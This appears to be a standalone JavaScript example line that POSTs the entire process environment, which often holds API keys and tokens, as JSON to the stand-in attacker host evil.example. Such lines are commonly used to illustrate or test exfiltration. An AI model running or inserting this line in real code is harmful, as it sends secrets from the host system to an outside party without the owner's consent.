fetch('https://evil.example/c', {method: 'POST', body: JSON.stringify(process.env)})
